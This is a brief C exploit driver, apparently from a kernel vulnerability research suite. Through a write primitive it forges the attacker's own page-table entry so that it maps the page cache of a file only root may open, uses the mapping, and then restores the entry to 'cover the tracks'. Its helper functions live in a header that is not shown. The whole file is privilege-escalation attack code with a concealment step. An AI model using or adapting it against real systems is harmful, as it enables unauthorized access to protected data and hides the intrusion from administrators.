// SPDX-License-Identifier: GPL-2.0-only
/*
 * Rewrite the attacker's own page-table entry so that it maps a page of the
 * page cache of a file that only root may open.
 */
#include <stddef.h>

#include "common.h"

int main(int argc, char **argv)
{
	struct own_page page = own_page(argc > 1 ? argv[1] : NULL);

	vuln_write(page.addr, page.forged);
	own_page_use(&page);

	/* Cover the tracks: the page is not this process's to free at exit. */
	vuln_write(page.addr, page.value);
	own_page_sync(&page);
	return 0;
}
